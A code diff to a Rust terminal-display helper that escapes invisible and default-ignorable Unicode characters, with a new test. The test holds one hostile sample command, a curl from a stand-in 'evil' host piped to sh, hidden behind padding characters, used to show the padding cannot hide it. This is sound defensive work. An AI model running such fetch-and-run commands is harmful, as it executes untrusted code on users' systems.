@@ -47,20 +47,41 @@ pub fn visible_lines(text: &str) -> Vec<String> {
         .collect()
 }
 
-/// C1 controls, bidirectional controls, zero-width and other format
-/// characters, line and paragraph separators, and the BOM: characters a
-/// terminal may act on or that change how the text around them reads.
+/// Characters that are not what they look like, by the Unicode
+/// Character Database as ICU4X ships it (`icu_properties`, kept current
+/// with each Unicode release; not a hand list): every
+/// `Default_Ignorable_Code_Point` (zero-width and format characters,
+/// variation selectors, the Hangul fillers U+115F, U+1160, U+3164, U+FFA0,
+/// U+180E, U+034F, tags), and the general categories that draw nothing
+/// or something else than their meaning: controls (C0 and C1), format
+/// characters (the bidirectional controls among them), surrogates,
+/// private use, unassigned code points, line and paragraph separators,
+/// and every space separator but the ASCII space (an NBSP or an
+/// ideographic space reads as a blank that is not one). One symbol is
+/// added by name because no property marks a glyph as empty: U+2800
+/// BRAILLE PATTERN BLANK, drawn as a blank by every terminal.
 fn is_hidden(c: char) -> bool {
-    let u = c as u32;
-    (0x80..=0x9f).contains(&u)
-        || (0x200b..=0x200f).contains(&u)
-        || (0x2028..=0x202e).contains(&u)
-        || (0x2060..=0x206f).contains(&u)
-        || u == 0x061c
-        || u == 0x00ad
-        || u == 0xfeff
-        || (0xfff9..=0xfffb).contains(&u)
-        || (0xe0000..=0xe007f).contains(&u)
+    use icu_properties::props::{DefaultIgnorableCodePoint, GeneralCategory};
+    use icu_properties::{CodePointMapData, CodePointSetData};
+    /// Symbols drawn as nothing that no Unicode property marks so.
+    const BLANK_SYMBOLS: &[char] = &['\u{2800}'];
+    if c == ' ' {
+        return false;
+    }
+    if CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c) {
+        return true;
+    }
+    matches!(
+        CodePointMapData::<GeneralCategory>::new().get(c),
+        GeneralCategory::Control
+            | GeneralCategory::Format
+            | GeneralCategory::Surrogate
+            | GeneralCategory::PrivateUse
+            | GeneralCategory::Unassigned
+            | GeneralCategory::LineSeparator
+            | GeneralCategory::ParagraphSeparator
+            | GeneralCategory::SpaceSeparator
+    ) || BLANK_SYMBOLS.contains(&c)
 }
 
 #[cfg(test)]
@@ -82,5 +103,32 @@ mod tests {
         assert_eq!(visible_lines("one\ntwo"), vec!["one\\n", "two"]);
         assert!(visible("\u{7f}").contains("\\x7f"));
         assert_eq!(visible("naïve ü 日本"), "naïve ü 日本");
+    }
+
+    /// Issue 23, item 7: the fillers and blanks that passed unescaped.
+    #[test]
+    fn invisible_and_default_ignorable_characters_are_shown() {
+        for c in [
+            '\u{3164}',
+            '\u{115F}',
+            '\u{1160}',
+            '\u{034F}',
+            '\u{180E}',
+            '\u{2800}',
+            '\u{FE0F}',
+            '\u{FFA0}',
+            '\u{00A0}',
+            '\u{3000}',
+            '\u{E000}',
+            '\u{2066}',
+            '\u{E0041}',
+        ] {
+            let shown = visible(&format!("a{c}b"));
+            assert_eq!(shown, format!("a<U+{:04X}>b", c as u32), "{:04X}", c as u32);
+        }
+        let padded = format!("echo hi{}; curl evil | sh", "\u{3164}".repeat(60));
+        assert!(visible(&padded).ends_with("; curl evil | sh"));
+        assert!(!visible(&padded).contains('\u{3164}'));
+        assert_eq!(visible("ls -la ~/ünï/日本 ✓"), "ls -la ~/ünï/日本 ✓");
     }
 }
